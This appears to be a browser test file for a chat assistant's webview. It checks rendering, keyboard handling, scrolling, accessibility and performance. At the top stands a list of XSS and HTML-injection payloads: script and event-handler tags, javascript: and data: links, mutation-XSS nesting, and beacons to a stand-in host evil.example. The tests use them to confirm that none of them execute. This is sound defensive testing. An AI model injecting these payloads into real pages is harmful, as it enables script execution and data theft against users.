// The built page in a real browser: what is said, how it is drawn, and that hostile text does nothing.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import { createRequire } from 'node:module';
import type { Page } from 'playwright-core';
import { message, state } from './chatFixtures';
import { pageOrigin as origin, usePage } from './pageInBrowser';

const attacks = [
  '<script>isHacked=1</script>',
  '<img src=x onerror="isHacked=1">',
  '<svg onload="isHacked=1"></svg>',
  '<iframe srcdoc="<script>parent.isHacked=1</script>"></iframe>',
  '<a href="javascript:isHacked=1" id=a>x</a>',
  '[x](javascript:isHacked=1)',
  '[x](JaVaScRiPt:isHacked=1 "t")',
  '[x](data:text/html,<script>parent.isHacked=1</script>)',
  '[x](command:workbench.action.quit)',
  '![x](https://evil.example/?q=secret)',
  '![x](javascript:isHacked=1)',
  '[x]: https://evil.example/"onmouseover="isHacked=1\n\n[x]',
  '[x](https://jan.ai/"onclick="isHacked=1)',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=isHacked=1>',
  '<noscript><p title="</noscript><img src=x onerror=isHacked=1>">',
  '```"><img src=x onerror=isHacked=1>\ncode\n```',
  '```html\n<img src=x onerror=isHacked=1><script>isHacked=1</script>\n```',
  '```xml\n</code></pre><img src=x onerror=isHacked=1>\n```',
  '`<img src=x onerror=isHacked=1>`',
  '| <img src=x onerror=isHacked=1> | b |\n|---|---|\n| <script>isHacked=1</script> | c |',
  '&lt;img src=x onerror=isHacked=1&gt;',
  '<jan-chat></jan-chat><vscode-button></vscode-button>',
  '<div id="posted"></div><a name="acquireVsCodeApi"></a>',
];

describe('The page', function () {
  this.timeout(30_000);
  const tested = usePage();
  const { say, show, posted, drawn, requested, complaints } = tested;
  let page: Page;
  beforeEach(() => {
    page = tested.page;
  });

  it('starts without a complaint of its policy', async () => {
    await show(state([]));
    await page.waitForSelector('.suggestion');
    assert.deepEqual(complaints, []);
    assert.deepEqual(requested.filter((url) => !url.startsWith(origin)), []);
  });

  for (const attack of attacks) {
    it(`shows and does nothing of ${attack.replace(/\s+/g, ' ').slice(0, 60)}`, async () => {
      for (const status of ['streaming', 'complete'] as const) {
        await show(state([message('u', attack, { role: 'user' }), message('a', attack, { status, reasoning: attack })]));
        await drawn();
      }
      const found = await page.evaluate(() => {
        const views = [...document.querySelectorAll('jan-markdown')];
        const elements = views.flatMap((view) => [...view.querySelectorAll('*')]);
        return {
          texts: views.length,
          // The code block's own buttons have no attributes of the text's making.
          tags: elements.map((one) => one.localName),
          handlers: elements.flatMap((one) => one.getAttributeNames()).filter((name) => name.startsWith('on') || name === 'style' || name === 'src'),
          links: elements.map((one) => one.getAttribute('href')).filter((href) => href !== null && !/^https?:\/\//.test(href)),
          ids: elements.filter((one) => one.id !== '' || one.hasAttribute('name')).length,
        };
      });
      assert.equal(found.texts, 3);
      const forbidden = ['script', 'img', 'svg', 'iframe', 'style', 'link', 'meta', 'base', 'form', 'input', 'object', 'embed', 'math', 'jan-chat', 'vscode-button', 'noscript'];
      assert.deepEqual(found.tags.filter((tag) => forbidden.includes(tag)), []);
      assert.deepEqual(found.handlers, []);
      assert.deepEqual(found.links, []);
      assert.equal(found.ids, 0);
      assert.equal(await page.evaluate(() => window.isHacked), undefined);
      assert.deepEqual(requested.filter((url) => !url.startsWith(origin)), []);
      assert.deepEqual(complaints, []);
    });
  }

  it('opens a link through the host and never follows it', async () => {
    await show(state([message('a', 'See [docs](https://jan.ai/docs).')]));
    await drawn();
    await posted();
    await page.click('jan-markdown a');
    assert.deepEqual(await posted(), [{ type: 'openLink', url: 'https://jan.ai/docs' }]);
    assert.equal(page.url(), `${origin}/`);
  });

  it('copies and inserts the very text of a block of code, coloured or not', async () => {
    const code = 'const a = "<b>" && `x`;\n\n  return a; // é';
    await show(state([message('a', `\`\`\`ts\n${code}\n\`\`\``)]));
    await page.waitForSelector('.hljs-keyword');
    await posted();
    await page.click('.code-header [aria-label="Copy code"]');
    await page.click('.code-header [aria-label="Insert at cursor"]');
    assert.deepEqual(await posted(), [{ type: 'copy', text: code }, { type: 'insert', text: code }]);
  });

  it('sends with Enter, breaks with Shift+Enter, and leaves an input method alone', async () => {
    await show(state([]));
    await page.waitForSelector('textarea');
    await posted();
    await page.focus('textarea');
    await page.keyboard.type('a');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('b');
    const composing = await page.evaluate(() => {
      const box = document.querySelector('textarea')!;
      box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }));
      box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true, cancelable: true }));
      return window.posted.filter((one) => one.type === 'send').length;
    });
    assert.equal(composing, 0);
    await page.keyboard.press('Enter');
    const said = await posted();
    assert.deepEqual(said.at(-1), { type: 'send', conversationId: 'c', text: 'a\nb' });
    assert.deepEqual(said.at(-2), { type: 'draft', conversationId: 'c', text: 'a\nb' });
    assert.equal(await page.inputValue('textarea'), '');
    // Not twice, until the host has answered.
    await page.keyboard.type('c');
    await page.keyboard.press('Enter');
    assert.ok(!(await posted()).some((one) => one.type === 'send'));
  });

  it('stops with Escape, recalls the last message with the up key', async () => {
    const thread = [message('u', 'Last question', { role: 'user' }), message('a', 'x', { status: 'streaming' })];
    await show(state(thread, { answering: true }));
    await drawn();
    await posted();
    await page.focus('textarea');
    await page.keyboard.press('Escape');
    assert.deepEqual(await posted(), [{ type: 'stop' }]);
    await page.keyboard.press('ArrowUp');
    assert.equal(await page.inputValue('textarea'), 'Last question');
  });

  it('asks for the state when a delta is missing', async () => {
    await show(state([message('a', 'x')]));
    await drawn();
    await posted();
    await say({ type: 'delta', sequence: 3, changes: [] });
    await page.waitForFunction(() => window.posted.length > 0);
    assert.deepEqual(await posted(), [{ type: 'resync' }]);
  });

  it('keeps a question that is being edited over being hidden, and sends it only when it can be answered', async () => {
    const asked = [message('u', 'What?', { role: 'user' }), message('a', 'That.')];
    await show(state(asked));
    await page.getByRole('button', { name: 'Edit', exact: true }).click();
    await page.locator('textarea.edit-box').fill('What exactly?');
    await tested.reload();
    await show(state(asked, { answering: true }));
    const box = page.locator('textarea.edit-box');
    await box.waitFor();
    assert.equal(await box.inputValue(), 'What exactly?');
    await posted();
    await box.press('Enter');
    assert.equal(await box.count(), 1, 'it stays while an answer is being written');
    assert.deepEqual((await posted()).filter(({ type }) => type === 'edit'), []);
    await show(state(asked));
    await box.press('Enter');
    assert.deepEqual((await posted()).filter(({ type }) => type === 'edit'), [{ type: 'edit', messageId: 'u', text: 'What exactly?' }]);
    await tested.reload();
    await show(state(asked));
    await drawn();
    assert.equal(await box.count(), 0);
  });

  it('offers another try of an answer without a text, and says that it has none', async () => {
    for (const status of ['complete', 'stopped', 'interrupted'] as const) {
      await show(state([message('u', 'What?', { role: 'user' }), message('a', '', { status, reasoning: 'Hm.' })]));
      await page.locator('.assistant').getByRole('button', { name: 'Answer again' }).click();
      assert.deepEqual((await posted()).filter(({ type }) => type === 'regenerate'), [{ type: 'regenerate', messageId: 'a' }]);
      assert.equal(await page.getByText('ended without an answer').count(), status === 'complete' ? 1 : 0);
    }
  });

  it('keeps a text that is too long to be sent, and says what to do', async () => {
    await show(state([]));
    const box = page.locator('jan-composer textarea');
    await posted();
    await box.fill('x'.repeat((1 << 20) + 1));
    await box.press('Enter');
    assert.deepEqual(await posted(), []);
    assert.equal((await box.inputValue()).length, (1 << 20) + 1);
    await page.getByRole('img', { name: /Attach longer texts as files/ }).waitFor();
    await box.fill('short');
    await box.press('Enter');
    assert.deepEqual((await posted()).filter(({ type }) => type === 'send').length, 1);
  });

  it('does not offer to jump to the end of a conversation that begins', async () => {
    const long = Array.from({ length: 40 }, (_, index) => message(`a${index}`, `Answer ${index}\n\n`.repeat(5)));
    await show(state(long));
    await drawn();
    await page.locator('.scroller').evaluate((scroller) => scroller.scrollTo(0, 0));
    const jump = page.getByRole('button', { name: 'Jump to latest' });
    await jump.waitFor();
    await show(state([], { conversationId: null }));
    await show(state([message('b', 'Short.')], { conversationId: 'd' }));
    await drawn();
    await jump.waitFor({ state: 'detached' });
  });

  it('follows a growing answer, until the reader scrolls up', async () => {
    const long = Array.from({ length: 60 }, (_, i) => `Paragraph ${i}.`).join('\n\n');
    await show(state([message('a', long, { status: 'streaming' })], { answering: true }));
    await drawn();
    const distance = (): Promise<number> =>
      page.evaluate(() => {
        const scroller = document.querySelector('.scroller')!;
        return Math.round(scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight);
      });
    await page.waitForFunction(() => {
      const scroller = document.querySelector('.scroller')!;
      return scroller.scrollTop > 100 && scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight < 2;
    });
    await page.hover('.scroller');
    await page.mouse.wheel(0, -300);
    await page.waitForSelector('.jump');
    const before = await distance();
    await say({ type: 'delta', sequence: 2, changes: [{ kind: 'text', id: 'a', content: '\n\nmore\n\nand more' }] });
    await page.waitForFunction(() => document.body.textContent.includes('and more'));
    assert.ok((await distance()) > before);
    await page.click('.jump');
    await page.waitForSelector('.jump', { state: 'detached' });
    assert.ok((await distance()) < 2);
  });

  it('announces beginning and end, and no tokens', async () => {
    await show(state([message('u', 'Hi', { role: 'user' })]));
    await say({ type: 'delta', sequence: 2, changes: [{ kind: 'fields', fields: { answering: true } }] });
    await page.waitForFunction(() => document.querySelector('.announcer')!.textContent === 'Generating');
    await show(state([message('u', 'Hi', { role: 'user' }), message('a', 'One two', { status: 'streaming' })], { answering: true }));
    await say({
      type: 'delta',
      sequence: 2,
      changes: [{ kind: 'message', message: message('a', 'One two three') }, { kind: 'fields', fields: { answering: false } }],
    });
    await page.waitForFunction(() => document.querySelector('.announcer')!.textContent === 'Response complete, 3 words');
    assert.equal(await page.getAttribute('[role=log]', 'aria-live'), 'off');
  });

  it('calls an answer busy until its last words are drawn', async () => {
    await show(state([message('a', 'One', { status: 'streaming' })], { answering: true }));
    await drawn();
    await say({ type: 'delta', sequence: 2, changes: [{ kind: 'message', message: message('a', 'One **two**') }] });
    const seen = await page.evaluate(async () => {
      const view = document.querySelector('jan-markdown')!;
      const states: string[] = [];
      for (let frame = 0; frame < 60 && !(states.at(-1) ?? '').startsWith('false'); frame++) {
        const busy = view.closest('article')!.getAttribute('aria-busy') === 'true' || view.getAttribute('aria-busy') === 'true';
        states.push(`${busy}: ${view.textContent.trim()}`);
        await new Promise((resolve) => setTimeout(resolve));
      }
      return states;
    });
    assert.equal(seen.at(-1), 'false: One two');
  });

  it('puts the cursor into the box when the view is focused as a whole, not after a click', async () => {
    await show(state([message('a', 'Some text')]));
    await drawn();
    const focusWindow = (): Promise<string> =>
      page.evaluate(async () => {
        (document.activeElement as HTMLElement | null)?.blur();
        window.dispatchEvent(new Event('focus'));
        await new Promise((resolve) => setTimeout(resolve, 50));
        return document.activeElement!.localName;
      });
    assert.equal(await focusWindow(), 'textarea');
    await page.click('jan-markdown');
    assert.equal(await focusWindow(), 'body');
  });

  it('is accessible: messages, history, welcome', async () => {
    const axe = fs.readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
    const check = async (what: string): Promise<void> => {
      // As a debugger would: the page's policy lets no script in.
      const { violations } = await page.evaluate<{ violations: { id: string; nodes: { html: string }[] }[] }>(
        `${axe}; axe.run({ rules: { 'color-contrast': { enabled: false } } })`,
      );
      assert.deepEqual(violations.map(({ id, nodes }) => `${id}: ${nodes[0]!.html}`), [], what);
    };
    await show(state([]));
    await page.waitForSelector('.suggestion');
    await check('welcome');
    const branch = { index: 1, count: 2, previousId: null, nextId: 'x' };
    const error = { code: 'engine-crashed', message: 'Ended.', actions: ['retry', 'showLog'] as const };
    await show(
      state(
        [
          message('u', 'Hi', { role: 'user' }),
          message('a', '# H\n\n- x\n\n```js\n1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |', { branch, reasoning: 'why' }),
          message('b', 'partial', { status: 'failed', error }),
        ],
        { undo: { count: 1, name: 'D' }, notice: error },
      ),
    );
    await drawn();
    await check('messages');
    await page.click('.history-button');
    await page.waitForSelector('.row');
    await page.click('[aria-label="Filters"]');
    await page.click('.history-select');
    await check('history');
    await page.click('.history-select');
    await page.locator('.row-name').first().click({ button: 'right' });
    await page.waitForSelector('[role=menu]');
    await check('menu');
  });

  it('lets an answer grow below 1,000 messages as smoothly as below one', async function () {
    this.timeout(120_000);
    const content = 'A paragraph with **bold** and `code`.\n\n- one\n- two\n\n```ts\nconst a = 1;\n```';
    const messages = Array.from({ length: 1000 }, (_, i) => message(`m${i}`, content, { role: i % 2 === 0 ? 'user' : 'assistant' }));
    await show(state(messages));
    // The end is there at once, the rest while nothing else is to do.
    await drawn();
    await page.waitForFunction(() => document.querySelectorAll('jan-message').length === 1000);
    await page.waitForFunction(() => document.querySelector('.is-pending') === null);
    let sequence = 1;
    const growing = async (count: number): Promise<number> => {
      const first = sequence + 1;
      return page.evaluate(
        async ([from, to]) => {
          const started = performance.now();
          for (let next = from!; next < to!; next++) {
            const changes = [{ kind: 'text', id: 'm999', content: ` more ${next}` }];
            window.postMessage({ type: 'delta', sequence: next, changes }, '*');
            await new Promise(requestAnimationFrame);
          }
          return (performance.now() - started) / (to! - from!);
        },
        [first, (sequence = first + count - 1) + 1],
      );
    };
    const long = await growing(40);
    await show(state(messages.slice(-2)));
    await page.waitForFunction(() => document.querySelectorAll('jan-message').length === 2);
    const short = await growing(40);
    assert.ok(long < short * 3 + 16, `a frame of a growing answer takes ${long.toFixed(1)} ms, in a short thread ${short.toFixed(1)} ms`);
  });
});
